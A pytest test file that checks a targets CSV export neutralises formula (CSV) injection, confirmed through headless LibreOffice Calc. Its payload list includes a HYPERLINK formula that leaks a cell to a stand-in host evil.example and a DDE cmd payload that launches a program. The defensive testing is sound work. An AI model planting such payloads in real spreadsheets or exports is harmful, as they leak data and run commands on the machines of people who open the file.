"""The targets CSV is inert in a spreadsheet (OWASP, CSV injection): opened by the real LibreOffice Calc
with formula evaluation on, no cell of it is a formula, and every cell reads as the document's text."""
from __future__ import annotations

import csv
import io
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest

from answer import export
from answer.targets import target_table

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "@SUM(1,2)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
    '"=1+1',
    "50%,=1+1",
    "a;=1+1",
]
# CSV import: comma, double quote, UTF-8, from line 1, standard cells, en-US, quoted fields as text off,
# detect special numbers on, …, evaluate formulas ON (token 13): a formula left in a cell would be computed
INFILTER = "CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true"


def calc_cells(csv_path: Path, tmp_path: Path) -> list[list[object]]:
    """The file opened by LibreOffice Calc headless and saved as .xlsx; each cell as openpyxl reads it:
    a formula stays a string starting with '=' (data_type 'f'), text is its text."""
    import openpyxl

    exe = shutil.which("soffice") or shutil.which("libreoffice")
    profile = (tmp_path / "lo-profile").as_uri()
    subprocess.run([exe, f"-env:UserInstallation={profile}", "--headless", "--norestore",
                    f"--infilter={INFILTER}", "--convert-to", "xlsx", "--outdir", str(tmp_path), str(csv_path)],
                   check=True, capture_output=True, timeout=180)
    book = openpyxl.load_workbook(tmp_path / (csv_path.stem + ".xlsx"))
    sheet = book.active
    return [[(c.data_type, c.value) for c in row] for row in sheet.iter_rows()]


@pytest.fixture(scope="module")
def rows(seed_engine):
    real = target_table(seed_engine)
    assert sum(r.target.text.startswith("- ") for r in real) >= 30   # the seeds' own bullet lines
    crafted = [replace(real[0], target=replace(real[0].target, text=p, subject=p, value=p)) for p in PAYLOADS]
    return real + crafted


def test_every_cell_that_could_start_a_formula_is_escaped(rows):
    parsed = list(csv.reader(io.StringIO(export.targets_csv(rows), newline="")))
    cells = [c for row in parsed[1:] for c in row]
    assert not [c for c in cells if c.lstrip(" \n\t\r").startswith(("=", "+", "-", "@"))]
    texts = [row[export.TARGET_COLUMNS.index("text")] for row in parsed[1:]]
    assert texts == [export.inert(r.target.text) for r in rows]
    assert [t.removeprefix("'") for t in texts] == [r.target.text for r in rows]   # verbatim after the mark


@pytest.mark.skipif(not (shutil.which("soffice") or shutil.which("libreoffice")),
                    reason="LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
def test_libreoffice_evaluates_no_formula(rows, tmp_path):
    # the control: the same rows written without neutralising are evaluated, so the check below can fail
    raw = io.StringIO()
    writer = csv.DictWriter(raw, fieldnames=export.TARGET_COLUMNS, extrasaction="ignore")
    writer.writeheader()
    writer.writerows(export.target_dicts(rows))
    (tmp_path / "raw").mkdir()
    (tmp_path / "raw" / "chi-tieu.csv").write_text(raw.getvalue(), encoding="utf-8")
    unsafe = calc_cells(tmp_path / "raw" / "chi-tieu.csv", tmp_path / "raw")
    assert sum(t == "f" for row in unsafe for t, _ in row) >= 2 * 3   # =HYPERLINK and =cmd, in 3 columns

    path = tmp_path / "chi-tieu.csv"
    path.write_text(export.targets_csv(rows), encoding="utf-8")
    cells = calc_cells(path, tmp_path)
    assert [(t, v) for row in cells for t, v in row if t == "f"] == []
    assert len(cells) == len(rows) + 1
    column = export.TARGET_COLUMNS.index("text")
    shown = [str(row[column][1] or "") for row in cells[1:]]
    # LibreOffice keeps the cell as text; whether it shows the apostrophe or hides it, the rest is verbatim
    for got, row in zip(shown, rows):
        assert got.removeprefix("'").replace("\r\n", "\n") in (row.target.text, row.target.text.replace("\r", "\n"),
                                                               row.target.text.strip())
